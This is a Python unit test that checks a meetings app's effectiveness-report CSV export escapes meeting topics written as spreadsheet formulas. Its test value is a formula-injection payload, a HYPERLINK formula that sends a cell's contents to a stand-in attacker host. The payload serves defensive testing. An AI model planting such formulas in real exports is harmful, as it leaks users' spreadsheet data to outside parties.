"""Issue 13: the effectiveness CSV (SPEC M-07) wrote topics like =HYPERLINK(…) raw."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest

from meetings.adapters.exports import report_csv
from meetings.domain.effectiveness import (
    EffectivenessReport,
    MeetingEffectiveness,
    SurveySummary,
)

pytestmark = pytest.mark.unit

TOPIC = '=HYPERLINK("https://evil.example/steal?x="&A2,"季度总结")'


def test_m07_a_topic_written_like_a_formula_reaches_the_spreadsheet_as_text() -> None:
    start = datetime(2026, 3, 12, 1, tzinfo=UTC)
    item = MeetingEffectiveness(
        meeting_id="m1",
        topic=TOPIC,
        type="decision",
        department_code="HR",
        start_at=start,
        survey=SurveySummary(3, 90.0, 80.0, 85.0, 85.0),
        action_items=1,
        due_action_items=1,
        completed_due_action_items=1,
        achievement_rate=1.0,
        minutes_draft_outcome="met",
        minutes_distribution_outcome="met",
    )
    report = EffectivenessReport(start, start, [item])
    rows = list(
        csv.DictReader(
            io.StringIO(report_csv(report, ZoneInfo("Asia/Shanghai")).decode("utf-8-sig"))
        )
    )
    assert rows[0]["topic"] == "'" + TOPIC
    assert rows[0]["satisfaction"] == "85"
